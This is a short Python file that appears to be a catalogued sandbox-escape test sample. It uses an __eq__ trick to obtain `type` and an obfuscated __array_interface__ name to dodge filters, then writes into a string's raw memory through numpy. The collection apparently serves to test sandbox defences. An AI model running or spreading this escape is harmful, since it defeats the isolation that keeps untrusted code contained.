# class: numpy_memory
# technique: the metaclass captured by a comparison (Grab() == type(int)) builds a writable raw view over a str object's data, rewriting an interned constant
# goal: memory
import numpy as np
import pandas as pd

kept = []


class Grab:
    def __eq__(self, other):
        kept.append(other)
        return False

    def __hash__(self):
        return 0


Grab() == type(int)
make = kept[0]
victim = "anyplot-interned-constant"
View = make("View", (), {"_" * 2 + "array_interface" + "_" * 2: {"data": (id(victim) + 48, False),
                                                              "shape": (len(victim),), "typestr": "|u1", "version": 3}})
window = np.asarray(View())
window[:7] = np.frombuffer(b"ESCAPED", dtype=np.uint8)
df = pd.DataFrame({"victim": [victim]})
